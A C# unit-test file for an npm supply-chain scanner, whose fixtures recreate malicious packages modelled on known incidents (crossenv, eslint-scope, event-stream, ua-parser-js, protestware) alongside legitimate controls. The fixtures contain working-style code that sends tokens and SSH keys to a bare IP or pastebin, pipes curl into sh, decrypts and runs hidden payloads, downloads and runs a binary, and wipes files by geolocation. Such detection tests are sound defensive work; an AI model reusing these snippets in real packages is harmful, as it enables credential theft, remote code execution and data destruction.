using System.Text;
using System.Text.Json;
using Cucos.Sdk;
using Cucos.Tests.Support;
using Cucos.Workers.Ecosystems.Npm;
using Cucos.Workers.Metadata;
using Cucos.Workers.SupplyChain;

namespace Cucos.Tests.SupplyChain;

/// <summary>
/// supply_chain on fixtures modelled on public incidents (the facts of each, not their code), on controls with
/// legitimate install scripts and on ordinary packages, and on bad input. Each runs metadata, then supply_chain.
/// </summary>
[Trait("Category", "Unit")]
public sealed class SupplyChainTests : IDisposable
{
    private readonly TempDirectory work = new("cucos-supply");

    public void Dispose() => work.Dispose();

    private void Write(string path, string text) => work.WriteFile("pkg/" + path, Encoding.UTF8.GetBytes(text));

    private async Task<JsonElement> AnalyseAsync()
    {
        var results = new InMemoryTaskResultStore();
        await WorkerRun.RunAsync(new MetadataTask(), work.Combine("pkg"), results);
        return await WorkerRun.RunAsync(new SupplyChainTask(), work.Combine("pkg"), results);
    }

    private static string Risk(JsonElement document) => document.GetProperty("summary").GetProperty("risk").GetString()!;

    private static JsonElement[] Signals(JsonElement document) => [.. document.GetProperty("details").GetProperty("signals").EnumerateArray()];

    private static HashSet<string> Rules(JsonElement document) => Signals(document).Select(s => s.GetProperty("rule").GetString()!).ToHashSet();

    private static JsonElement Signal(JsonElement document, string rule) => Assert.Single(Signals(document), s => s.GetProperty("rule").GetString() == rule);

    [Fact]
    public async Task The_issue_s_fixture_is_flagged_with_every_signal_and_critical_risk()
    {
        Write("package.json", """{ "name": "helpful-utils", "version": "1.0.0", "scripts": { "postinstall": "curl -s https://get.example.org/setup.sh | sh" } }""");
        Write("index.js", """
            const { execSync } = require('child_process');
            const https = require('https');
            const fs = require('fs');
            const payload = 'Y29uc29sZS5sb2coInBheWxvYWQiKQ==';
            eval(Buffer.from(payload, 'base64').toString());
            const token = process.env.NPM_TOKEN;
            const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
            const request = https.request({ hostname: '203.0.113.7', port: 443, path: '/c', method: 'POST' });
            request.end(JSON.stringify({ token, key }));
            """);

        var document = await AnalyseAsync();

        Assert.Equal("critical", Risk(document));
        var rules = Rules(document);
        foreach (var rule in new[] { "npm.postinstall", "sh.pipe_to_shell", "js.child_process", "js.eval", "js.decode", "combined.decode_and_run",
                     "js.env_sensitive", "any.credential_file", "any.bare_ip_host", "js.post", "combined.secrets_sent" })
            Assert.Contains(rule, rules);
        var token = Signal(document, "js.env_sensitive");
        Assert.Equal("index.js", token.GetProperty("path").GetString());
        Assert.Equal(6, token.GetProperty("line").GetInt32());
        Assert.Contains("process.env.NPM_TOKEN", token.GetProperty("snippet").GetString());
        Assert.Equal("medium", token.GetProperty("severity").GetString());
        var pipe = Signal(document, "sh.pipe_to_shell");
        Assert.True(pipe.GetProperty("install_time").GetBoolean());
        Assert.Equal("package.json", pipe.GetProperty("path").GetString());
        Assert.Contains(document.GetProperty("summary").GetProperty("drivers").EnumerateArray(), d => d.GetString() == "combined.secrets_sent (index.js:6)");
    }

    [Fact]
    public async Task An_event_stream_style_encrypted_payload_in_a_bundled_dependency_is_a_hidden_payload()
    {
        Write("package.json", """{ "name": "event-stream", "version": "3.3.6", "dependencies": { "flatmap-stream": "0.1.1" }, "bundleDependencies": ["flatmap-stream"] }""");
        Write("index.js", "module.exports = require('flatmap-stream');\n");
        var random = new Random(1);
        var cipher = new byte[4000];
        random.NextBytes(cipher);
        // The payload: hex strings decrypted with a key taken from the environment, compiled as a module.
        Write("node_modules/flatmap-stream/package.json", """{ "name": "flatmap-stream", "version": "0.1.1" }""");
        Write("node_modules/flatmap-stream/index.min.js",
            "var Stream=require(\"stream\").Stream;module.exports=function(e,n){var i=new Stream;return i};"
            + "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,\"hex\").toString()}"
            + "var n=r(e(\"2e2f746573742f64617461\")),o=t[e(n[3])][e(n[4])];if(!o)return;"
            + "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
            + "var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,\"\"),f.exports(n[1])}catch(r){}}();"
            + $"var data=[\"{Convert.ToHexString(cipher).ToLowerInvariant()}\"];\n");

        var document = await AnalyseAsync();

        Assert.True(Risk(document) is "high" or "critical", Risk(document));
        var rules = Rules(document);
        Assert.Contains("combined.decode_and_run", rules);
        Assert.Contains("js.module_compile", rules);
        Assert.Contains("js.require_alias", rules);
        Assert.Contains("any.encoded_blob", rules);
        Assert.Equal("node_modules/flatmap-stream/index.min.js", Signal(document, "combined.decode_and_run").GetProperty("path").GetString());
    }

    [Fact]
    public async Task A_crossenv_style_typosquat_that_sends_the_environment_away_is_critical()
    {
        Write("package.json", """{ "name": "crossenv", "version": "6.1.1", "scripts": { "postinstall": "node package-setup.js" }, "dependencies": { "cross-env": "^5.0.1" } }""");
        Write("package-setup.js", """
            const http = require('http');
            const data = JSON.stringify(process.env);
            const req = http.request({ host: 'npm.hacktask.example', path: '/log/', method: 'POST' });
            req.write(data);
            req.end();
            """);

        var document = await AnalyseAsync();

        Assert.Equal("critical", Risk(document));
        var squat = Signal(document, "any.typosquat");
        Assert.Equal("high", squat.GetProperty("severity").GetString());
        Assert.Equal("cross-env", document.GetProperty("details").GetProperty("typosquat_of").GetString());
        Assert.Contains("js.env_dump", Rules(document));
        var sent = Signal(document, "combined.secrets_sent");
        Assert.True(sent.GetProperty("install_time").GetBoolean(), "package-setup.js runs from postinstall");
    }

    [Fact]
    public async Task An_eslint_scope_style_npmrc_theft_in_postinstall_names_the_file_and_the_paste_site()
    {
        Write("package.json", """{ "name": "eslint-scope", "version": "3.7.2", "scripts": { "postinstall": "node ./lib/build.js" } }""");
        Write("lib/build.js", """
            var path = require('path'), fs = require('fs'), https = require('https');
            var npmrc = fs.readFileSync(path.join(require('os').homedir(), '.npmrc'), 'utf8');
            var token = /_authToken=(.*)/.exec(npmrc);
            https.get('https://pastebin.com/raw/XLeVP82h?t=' + encodeURIComponent(token[1]));
            """);

        var document = await AnalyseAsync();

        Assert.Equal("critical", Risk(document));
        var rules = Rules(document);
        Assert.Contains("any.exfiltration_service", rules);
        Assert.Contains("npm.postinstall", rules);
        var npmrc = Signal(document, "any.credential_file");
        Assert.Equal(2, npmrc.GetProperty("line").GetInt32());
        Assert.True(npmrc.GetProperty("install_time").GetBoolean());
        // the regex literal /_authToken=(.*)/ is not code: .exec( in it does not count as Python-style exec, nor the word in a regex as eval
        Assert.DoesNotContain("js.eval", rules);
    }

    [Fact]
    public async Task A_ua_parser_js_style_preinstall_that_downloads_and_runs_a_binary_from_a_bare_ip_is_high()
    {
        Write("package.json", """{ "name": "ua-parser-js", "version": "0.7.29", "scripts": { "preinstall": "start /B node preinstall.js & node preinstall.js" } }""");
        Write("preinstall.js", """
            const { exec } = require('child_process');
            if (process.platform === 'linux') exec('bash preinstall.sh');
            else exec('preinstall.bat');
            """);
        Write("preinstall.sh", "#!/bin/bash\ncurl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls &\n");

        var document = await AnalyseAsync();

        Assert.True(Risk(document) is "high" or "critical", Risk(document));
        var rules = Rules(document);
        Assert.Contains("npm.preinstall", rules);
        Assert.Contains("combined.download_and_run", rules);
        var ip = Signal(document, "any.bare_ip_url");
        Assert.Equal("preinstall.sh", ip.GetProperty("path").GetString());
        Assert.Equal(2, ip.GetProperty("line").GetInt32());
        Assert.Contains("159.148.186.228", ip.GetProperty("explanation").GetString());
    }

    [Fact]
    public async Task A_protestware_style_wipe_conditioned_on_ip_location_is_sabotage()
    {
        Write("package.json", """{ "name": "ipc-helper", "version": "10.1.1" }""");
        Write("lib/ssl-geospec.js", """
            const fs = require('fs'), path = require('path'), https = require('https');
            https.get('https://api.ipgeolocation.io/ipgeo?apiKey=ae511e1627824a968aaaa758a5309154', res => {
              res.on('data', body => {
                const country = JSON.parse(body).country_name.toLowerCase();
                if (country.includes('russia') || country.includes('belarus')) walk('/');
              });
            });
            function walk(dir) {
              for (const name of fs.readdirSync(dir)) { const file = path.join(dir, name); try { fs.writeFileSync(file, '\u2764\ufe0f'); fs.unlinkSync(file + '.bak'); } catch {} }
            }
            """);

        var document = await AnalyseAsync();

        Assert.Equal("high", Risk(document));
        var rules = Rules(document);
        Assert.Contains("combined.conditional_destruction", rules);
        Assert.Contains("any.geolocation_service", rules);
        Assert.DoesNotContain("combined.secrets_sent", rules);
    }

    [Fact]
    public async Task A_native_addon_built_with_prebuild_install_or_node_gyp_is_low_risk_install_time_execution()
    {
        Write("package.json", """{ "name": "fast-hash-addon", "version": "2.0.0", "scripts": { "install": "prebuild-install || node-gyp rebuild" }, "gypfile": true }""");
        Write("binding.gyp", """{ "targets": [ { "target_name": "addon", "sources": ["src/addon.cc"] } ] }""");
        Write("src/addon.cc", "#include <node_api.h>\n// reads process.env.NPM_TOKEN? no: a comment\nnapi_value Init(napi_env env, napi_value exports) { return exports; }\n");
        Write("index.js", "module.exports = require('node-gyp-build')(__dirname);\n");
        work.WriteFile("pkg/prebuilds/linux-x64/addon.node", [0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0]);

        var document = await AnalyseAsync();

        Assert.Equal("low", Risk(document));
        var install = Signal(document, "npm.install");
        Assert.Contains("native-addon builder", install.GetProperty("explanation").GetString());
        Assert.Contains("any.shipped_binary", Rules(document));
        Assert.DoesNotContain(Signals(document), s => s.GetProperty("family").GetString() is "exfiltration" or "environment" or "payload");
    }

    [Fact]
    public async Task A_postinstall_that_downloads_its_platform_binary_is_medium_without_false_exfiltration()
    {
        Write("package.json", """{ "name": "esbuild-like", "version": "0.19.0", "scripts": { "postinstall": "node install.js" }, "bin": { "tool": "bin/tool" } }""");
        Write("install.js", """
            const https = require('https');
            const fs = require('fs');
            const path = require('path');
            const { version } = require('./package.json');
            // Downloads the binary of this platform from the project's releases, unless a mirror is configured.
            const base = process.env.TOOL_BINARY_HOST || 'https://github.com/example/tool/releases/download';
            const url = `${base}/v${version}/tool-${process.platform}-${process.arch}`;
            const target = path.join(__dirname, 'bin', 'tool');
            https.get(url, response => {
              response.pipe(fs.createWriteStream(target)).on('finish', () => fs.chmodSync(target, 0o755));
            });
            """);

        var document = await AnalyseAsync();

        Assert.Equal("medium", Risk(document));
        Assert.Contains("npm.postinstall", Rules(document));
        Assert.DoesNotContain(Signals(document), s => s.GetProperty("family").GetString() is "exfiltration" or "payload" or "download_execute");
    }

    [Fact]
    public async Task Ordinary_utility_and_framework_packages_come_out_clean()
    {
        Write("package.json", """{ "name": "tiny-router", "version": "4.18.2", "description": "a small HTTP router", "dependencies": { "debug": "2.6.9" } }""");
        Write("lib/router.js", """
            'use strict';
            const http = require('http');
            const debug = require('debug')('router');
            // Never eval() the route; see README for child_process notes and ~/.ssh/id_rsa warnings.
            const escape = /[.*+?^${}()|[\]\\]/g;
            function compile(path) { return new RegExp('^' + path.replace(escape, '\\$&') + '$'); }
            module.exports = function createServer(routes) {
              const env = process.env.NODE_ENV || 'development';
              return http.createServer((req, res) => { debug('%s %s', req.method, req.url, env); res.end(); });
            };
            """);
        Write("README.md", "Install with `curl https://example.org/install.sh | sh`, reads `process.env.NPM_TOKEN` and ~/.npmrc. eval(Buffer.from(x,'base64'))\n");
        Write("CHANGELOG.md", "4.18.2: drop the child_process dependency; stop reading .npmrc\n");
        Write("dist/router.min.js", "!function(e){" + new string('a', 3) + string.Concat(Enumerable.Repeat("var x=1;", 2000)) + "}();\n");

        var document = await AnalyseAsync();

        Assert.Equal("none", Risk(document));
        Assert.DoesNotContain(Signals(document), s => s.GetProperty("severity").GetString() != "info");
    }

    [Fact]
    public async Task Git_and_url_dependencies_are_from_outside_the_registry()
    {
        Write("package.json", """{ "name": "app-with-git-deps", "version": "1.0.0", "dependencies": { "left": "github:someone/left-pad#v1", "tar": "http://example.org/t.tgz", "ok": "^1.0.0" }, "devDependencies": { "tool": "git+https://example.org/tool.git" } }""");

        var document = await AnalyseAsync();

        var outside = Signals(document).Where(s => s.GetProperty("rule").GetString() == "any.dependency_outside_registry")
            .ToDictionary(s => s.GetProperty("snippet").GetString()!.Split(':')[0], s => s.GetProperty("severity").GetString());
        Assert.Equal(new Dictionary<string, string?> { ["left"] = "medium", ["tar"] = "high", ["tool"] = "low" }, outside);
    }

    [Fact]
    public async Task Manifest_confusion_and_release_context_come_from_the_registry_s_version_document()
    {
        Write("package.json", """{ "name": "quiet-lib", "version": "2.0.0", "scripts": { "test": "node test.js" }, "dependencies": { "a": "^1.0.0" } }""");
        Write("index.js", "module.exports = 1;\n");
        // The registry says something else than the tarball: an install script and a dependency npm will act on.
        var packument = JsonDocument.Parse("""
            {
              "name": "quiet-lib",
              "time": { "1.0.0": "2025-01-01T00:00:00Z", "2.0.0": "2026-11-30T00:00:00Z" },
              "versions": {
                "1.0.0": { "name": "quiet-lib", "version": "1.0.0", "_npmUser": { "name": "alice" }, "dist": { "unpackedSize": 10000 } },
                "2.0.0": { "name": "quiet-lib", "version": "2.0.0", "_npmUser": { "name": "mallory" }, "dist": { "unpackedSize": 9000000 },
                           "scripts": { "test": "node test.js", "preinstall": "node x.js" }, "dependencies": { "a": "^1.0.0", "b": "1.0.0" } }
              }
            }
            """);
        NpmRegistryDocument.Write(work.Combine("pkg", "metadata"), packument.RootElement, "2.0.0");

        var document = await AnalyseAsync();

        Assert.Equal("compared", document.GetProperty("details").GetProperty("manifest_check").GetString());
        var rules = Rules(document);
        Assert.Contains("npm.manifest_dependencies", rules);
        Assert.Contains("npm.publisher_changed", rules);
        Assert.Contains("npm.install_script_added", rules);
        Assert.Contains("npm.size_jump", rules);
        var scripts = Signal(document, "npm.manifest_scripts");
        Assert.Contains("preinstall", scripts.GetProperty("explanation").GetString());
        Assert.Equal("high", scripts.GetProperty("severity").GetString());
        Assert.Contains("alice -> mallory", Signal(document, "npm.publisher_changed").GetProperty("snippet").GetString());
    }

    [Fact]
    public async Task Bad_input_is_bounded_and_never_fails_the_task()
    {
        Write("package.json", """{ "name": "odd-files", "version": "1.0.0" }""");
        var minified = new StringBuilder();
        while (minified.Length < 3_000_000)
            minified.Append("function a(b){return b*2}var c=a(1)+\"x\";");
        Write("lib/huge-line.js", minified.ToString());
        var binary = new byte[20_000];
        new Random(3).NextBytes(binary);
        binary[10] = 0;
        work.WriteFile("pkg/lib/binary.js", binary);
        work.WriteFile("pkg/lib/latin1.js", [.. "var s = '"u8, 0xE9, 0xFF, 0xFE, .. "'; eval(s);\n"u8]);
        var big = work.Combine("pkg", "lib", "big.js");
        using (var stream = File.Create(big))
        {
            var chunk = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("x = x + 1; // counter\n", 1000)));
            for (long written = 0; written < 100L * 1024 * 1024; written += chunk.Length)
                stream.Write(chunk);
        }

        var document = await AnalyseAsync();

        Assert.Equal(5, document.GetProperty("summary").GetProperty("files_scanned").GetInt32());
        Assert.Equal(1, document.GetProperty("details").GetProperty("binary_files").GetInt32());
        Assert.Contains("js.minified_outside_dist", Rules(document));
        var eval = Signal(document, "js.eval");
        Assert.Equal("lib/latin1.js", eval.GetProperty("path").GetString());
    }

    [Theory]
    [InlineData("npm", "crossenv", "cross-env")]
    [InlineData("npm", "lodahs", "lodash")]
    [InlineData("npm", "express_", "express")]
    [InlineData("pypi", "reqeusts", "requests")]
    [InlineData("pypi", "python-dateutils", "python-dateutil")]
    public void Typosquats_name_the_popular_package(string ecosystem, string name, string popular)
    {
        Assert.Equal(popular, Typosquats.Instance.Check(ecosystem, name)?.Popular);
    }

    [Theory]
    [InlineData("npm", "cross-env")]
    [InlineData("npm", "lodash")]
    [InlineData("npm", "a-very-original-package-name")]
    [InlineData("pypi", "Requests")]
    [InlineData("pypi", "python_dateutil")]
    public void Popular_and_unrelated_names_are_not_typosquats(string ecosystem, string name)
    {
        Assert.Null(Typosquats.Instance.Check(ecosystem, name));
    }
}
